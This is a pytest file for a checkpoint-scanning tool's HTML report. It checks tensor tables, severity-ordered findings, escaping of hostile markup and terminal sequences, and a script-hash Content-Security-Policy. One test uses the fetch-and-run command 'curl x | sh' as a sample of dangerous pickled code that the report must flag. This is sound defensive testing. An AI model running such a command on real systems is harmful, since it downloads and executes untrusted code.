"""The text of a page: what it says without any script, what it escapes, what it may load."""

from __future__ import annotations

import base64
import hashlib
import json
import re
from html.parser import HTMLParser

import pytest

import unmoor
from tests.report.catalogs import catalog, danger, opaque, part, tensor
from unmoor.values.catalog import Catalog
from unmoor.values.finding import Finding

from .pages import hostile, large, training_checkpoint


class Read(HTMLParser):
    """A page as a browser takes it apart: its elements, its words outside of scripts, its scripts."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.words: list[str] = []
        self.scripts: list[str] = []
        self.inside = ""
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        self.inside = tag
        if tag == "script":
            self.scripts.append("")

    def handle_endtag(self, tag):
        self.inside = ""

    def handle_data(self, data):
        if self.inside == "script":
            self.scripts[-1] += data
        elif self.inside != "style":
            self.words.append(data)

    @property
    def said(self) -> str:
        """All words, with single spaces."""
        return " ".join(" ".join(self.words).split())

    @property
    def data(self) -> dict:
        """What the scripts of the page read."""
        return json.loads(next(text for text in self.scripts if text.startswith("{")))


def page_of(found: Catalog) -> Read:
    return Read(unmoor.page(found))


def test_the_facts_of_the_text_stand_in_the_page_without_a_script():
    """What a file is, its figures, its parts and its settings are words of the page itself."""
    said = page_of(training_checkpoint()).said
    for words in (
        "run.pt",
        "A training checkpoint (model + optimizer + scheduler + scaler + rng)",
        "torch zip · 3.3 MiB · plain dict",
        "cuda:0 (163 tensors) and cpu (57: Adam's step and rng)",
        "safe: no code in it",
        "Adam-like: step, exp_avg, exp_avg_sq for 54 of 63 parameters",
        "CosineAnnealingLR-like, last_epoch 280 of 300",
        "float32 (217 tensors, 3.3 MiB), uint8 (3, 5.0 KiB)",
        "Plain values step, config",
    ):
        assert words in said.replace("_ ", "_"), words


def test_every_tensor_is_in_the_data():
    """The columns of the data give back name, role, shape, dtype, device and bytes of each tensor."""
    found = training_checkpoint()
    data = page_of(found).data
    columns = data["columns"]
    for i, entry in enumerate(found.tensors):
        assert data["modules"][columns["module"][i]] + data["leaves"][columns["leaf"][i]] == entry.path
        assert data["kinds"][columns["kind"][i]] == [entry.role, entry.dtype, entry.device, entry.layout]
        assert data["shapes"][columns["shape"][i]][0] == "x".join(map(str, entry.shape)) or entry.shape == ()
        assert columns["bytes"][i] == entry.nbytes


def test_findings_stand_worst_first_with_place_code_and_remedy():
    """Each finding has its severity in words, its place, its stable code and what to do."""
    findings = [
        Finding("a-note", "info", "", "know it"),
        Finding("an-error", "error", "model.w", "it fails", "mend it"),
    ]
    said = page_of(catalog(findings=findings)).said
    assert re.search(r"error model\. ?w it fails an-error mend it.*note know it a-note", said)


def test_code_that_would_run_is_the_loudest_figure():
    """A dangerous file says DANGER, what would run, and counts among the findings."""
    said = page_of(catalog(findings=[danger()], tree={"callbacks": opaque("posix.system")})).said
    assert "code DANGER DANGEROUS: would run posix.system('curl x | sh') at callbacks" in said


def test_a_page_of_nothing_is_a_page():
    """A file without tensors has no map and no table, and no script for them."""
    page = page_of(catalog())
    assert "Nothing in it" in page.said
    assert not {"map", "list"} & {attributes.get("id") for _, attributes in page.tags}
    assert len(page.scripts) == 2


def test_nothing_out_of_a_file_becomes_an_element():
    """Markup in a path, a name, a device, a class, a finding: the page has the elements of any other page."""
    mine = {tag for tag, _ in page_of(hostile()).tags}
    assert mine <= {tag for tag, _ in page_of(large(40)).tags} | {"li", "ul", "strong"}
    assert not [name for _, attributes in page_of(hostile()).tags for name in attributes if name.startswith("on")]


def test_the_data_cannot_end_its_element():
    """The JSON text is ASCII and holds none of the characters that HTML knows."""
    text = unmoor.page(hostile())
    data = text.split('id="data">')[1].split("</script>")[0]
    assert data.isascii()
    assert not set("<>&") & set(data)


def test_the_policy_lets_the_own_scripts_run_and_nothing_else():
    """default-src is 'none'; every script of the page is named by its hash; nothing is fetched from anywhere."""
    page = page_of(training_checkpoint())
    policy = next(a["content"] for tag, a in page.tags if a.get("http-equiv") == "Content-Security-Policy")
    assert policy.startswith("default-src 'none'; ")
    programs = [text for text in page.scripts if not text.startswith("{")]
    hashes = {f"'sha256-{base64.b64encode(hashlib.sha256(t.encode()).digest()).decode()}'" for t in programs}
    assert len(hashes) == 3
    assert hashes == set(re.findall(r"'sha256-[^']+'", policy))
    assert not [a for _, a in page.tags if {"src", "href"} & set(a)]


def test_one_catalog_gives_one_page():
    """No clock and no chance: the page can be compared."""
    assert unmoor.page(training_checkpoint()) == unmoor.page(training_checkpoint())


def test_escapes_and_lone_surrogates_are_shown():
    """What a terminal would obey and what UTF-8 cannot hold is an escape here too."""
    entries = [tensor(("model", "\x1b[2J\udc80\u202ew"), (2,))]
    text = unmoor.page(catalog([(part("model", ("model",), entries), entries)], path="a\udcffb.pt"))
    assert "\\\\x1b[2J\\\\udc80\\\\u202ew" in text
    assert "a\\udcffb" in text
    assert text.encode()


@pytest.mark.parametrize("number", [40, 4000])
def test_the_data_is_compact(number):
    """A tensor takes few bytes of the page beside what all pages have."""
    found = large(number)
    data = json.dumps(page_of(found).data, separators=(",", ":"))
    assert len(data) < 90 * len(found.tensors) + 20_000 + 2500 * 70
